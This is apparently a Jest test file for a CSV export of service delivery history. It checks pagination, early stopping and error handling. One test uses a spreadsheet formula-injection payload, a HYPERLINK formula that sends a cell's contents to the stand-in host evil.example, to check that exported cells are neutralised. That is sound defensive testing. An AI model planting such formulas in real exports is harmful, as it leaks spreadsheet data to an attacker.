import { HistoryEvent } from '@fairway/backstage-plugin-delivery-common';
import { PassThrough, Writable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { exportHistory } from './exportHistory';

const event = (
  n: number,
  change: Partial<HistoryEvent> = {},
): HistoryEvent => ({
  id: `e-${String(n).padStart(4, '0')}`,
  at: `2026-11-${String(1 + (n % 28)).padStart(2, '0')}T10:00:00.000Z`,
  kind: 'promotion',
  text: `Promote 1.0.${n}`,
  ...change,
});

/** A history that hands out its events by page, and counts the pages. */
function historyOf(events: HistoryEvent[]) {
  const page = jest.fn(
    async (
      _serviceRef: string,
      options: { limit: number; before?: { id: string } },
    ) => {
      const start = options.before
        ? events.findIndex(one => one.id === options.before?.id) + 1
        : 0;
      return {
        events: events.slice(start, start + options.limit),
        total: events.length,
        more: start + options.limit < events.length,
      };
    },
  );
  return { page };
}

const query = { serviceRef: 'component:default/checkout-api' };

async function exported(events: HistoryEvent[]): Promise<string> {
  const output = new PassThrough();
  const [csv] = await Promise.all([
    text(output),
    exportHistory(historyOf(events), query, output),
  ]);
  return csv;
}

describe('exportHistory', () => {
  it('writes every event of every page under one head', async () => {
    const lines = (
      await exported(Array.from({ length: 450 }, (_, n) => event(n)))
    )
      .trim()
      .split('\n');
    expect(lines[0]).toBe(
      'At,Kind,State,Environment,From release,Release,By,What happened,Promotion',
    );
    expect(lines).toHaveLength(451);
    expect(lines[450]).toContain('Promote 1.0.449');
  });

  it('keeps a spreadsheet from running text as a formula, and cells in one piece', async () => {
    const csv = await exported([
      event(1, { text: '=HYPERLINK("http://evil.example?"&A1,"ok")' }),
      event(2, { text: '@SUM(1)', by: '+user:default/ada' }),
      event(3, { text: 'two\nlines, with "quotes"' }),
    ]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
    expect(csv).toContain(`'+user:default/ada,'@SUM(1)`);
    expect(csv).toContain('"two\nlines, with ""quotes"""');
  });

  it('reads no further once the reader has gone', async () => {
    const history = historyOf(
      Array.from({ length: 20_000 }, (_, n) => event(n)),
    );
    const output = new Writable({
      write() {
        output.destroy();
      },
    });
    await exportHistory(history, query, output);
    expect(history.page.mock.calls.length).toBeLessThan(20);
  });

  it('ends with the error of the database, not with half a file that looks whole', async () => {
    const history = {
      page: async (): Promise<never> => {
        throw new Error('The database is away');
      },
    };
    const output = new PassThrough();
    await expect(exportHistory(history, query, output)).rejects.toThrow(
      'The database is away',
    );
    expect(output.destroyed).toBe(true);
  });
});
